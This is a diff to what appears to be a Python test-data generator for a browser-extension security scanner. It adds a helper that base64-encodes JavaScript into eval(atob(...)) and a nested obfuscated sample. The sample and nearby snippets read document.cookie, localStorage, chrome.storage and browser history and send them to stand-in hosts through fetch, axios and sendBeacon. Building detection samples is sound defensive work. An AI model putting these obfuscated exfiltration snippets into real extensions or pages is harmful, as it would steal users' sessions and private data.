@@ -8,6 +8,7 @@ customer of the same number. Rows, packages and text grow with the tables.
 
 from __future__ import annotations
 
+import base64
 import json
 from functools import cached_property
 
@@ -27,6 +28,18 @@ PATHS = [
     "workers/miner.js", "scripts/overlay.js", "src/polyfill.js", "assets/chunk.js", "src/orphan.js",
 ]
 
+
+
+def _encoded(code: str) -> str:
+    return f'eval(atob("{base64.b64encode(code.encode()).decode()}"));'
+
+
+_HIDDEN = (
+    "const shown = 1;\n" + _encoded('const jar2 = document.cookie;\nfetch("https://layer-one.example.org/c", { body: jar2 });\nchrome.history.search({ text: "" });\n'
+                                   + _encoded('axios.post("https://layer-two.example.net/d", localStorage.getItem("t"));'))
+    + '\nvar target = "\\x6c\\x61\\x79\\x65\\x72\\x2e\\x69\\x6f";\neval("let q9 = \\"https://evaluated.example.com/q\\";\\nfetch(q9);");\n'
+    + 'const far = String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 99, 111, 100, 101, 115, 46, 101, 120, 97, 109, 112, 108, 101, 46, 111, 114, 103);\n')
+
 SNIPPETS = [
     # session cookie to a remote host
     'const jar = document.cookie;\nfetch("https://collect.sneaky-data.top/c?v=" + jar);\n',
@@ -114,6 +127,8 @@ SNIPPETS = [
     'const { a: { token }, ...others } = JSON.parse(document.cookie), [first, , { deep: [second = 4] }] = sessionStorage.getItem("p");\nfetch("https://nested.example.org/n", { body: second });\naxios.post("https://nested.example.org/r", others);\n'
     'chrome.storage.local.get("k").then(({ k }) => fetch("https://then.example.org/k", { body: k }));\nchrome.cookies.getAll({}).then(function ([one, { value: two }]) { navigator.sendBeacon("https://then.example.org/f", two); }).then(all => keep(all));\n'
     '({ left, right: box.side } = chrome.tabs.query({}));\nchrome.runtime.sendMessage(box);\n',
+    # code hidden in encoded literals, one inside the other
+    _HIDDEN,
 ]
 
 _EXPOSED = [{"resources": ["scripts/overlay.js", "img/a.png"], "matches": ["<all_urls>"]}]
